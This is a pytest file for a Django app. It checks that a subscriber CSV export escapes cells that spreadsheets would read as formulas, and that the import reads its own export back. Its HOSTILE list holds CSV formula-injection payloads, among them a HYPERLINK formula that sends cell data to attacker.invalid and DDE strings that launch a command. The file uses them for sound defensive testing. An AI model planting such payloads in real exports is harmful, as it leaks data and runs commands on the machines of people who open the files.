"""Finding 13 of issue 13: the subscriber export is opened in spreadsheets, where a cell
that starts with = + - @ (or tab, CR) is a formula. Every such cell is exported with a
leading apostrophe, and the import takes its own export back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from incidents.models import Subscriber
from tests.notify.conftest import subscriber

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")@example.com',
    "+cmd|' /C calc'!A0@example.com",
    "-2+3+cmd|' /C calc'!A0@example.com",
    "@SUM(1+1)*cmd|' /C calc'!A0@example.com",
    "\t=1+1@example.com",
    "\r=1+1@example.com",
]


def _export(console: Client) -> list[list[str]]:
    answer = console.get(reverse("console:subscribers") + "?format=csv")
    text = b"".join(answer.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_exported_cell_starts_a_formula(console: Client) -> None:
    for destination in HOSTILE:
        subscriber("email", destination)  # stored before validation was what it is now
    subscriber("sms", "+14155550100")

    rows = _export(console)[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    destinations = {row[1] for row in rows}
    assert {"'" + d for d in HOSTILE} | {"'+14155550100"} == destinations


def test_the_import_takes_back_its_own_export(console: Client) -> None:
    subscriber("sms", "+14155550100")
    subscriber("email", "ada@example.com")
    text = "\r\n".join(",".join(row) for row in _export(console)) + "\r\n"
    Subscriber.objects.all().delete()

    upload = SimpleUploadedFile("export.csv", text.encode(), content_type="text/csv")
    page = console.post(reverse("console:subscriber_import"), {"file": upload}, follow=True)
    assert "Imported 2 subscribers" in page.content.decode()
    assert set(Subscriber.objects.values_list("destination", flat=True)) == {
        "+14155550100",
        "ada@example.com",
    }
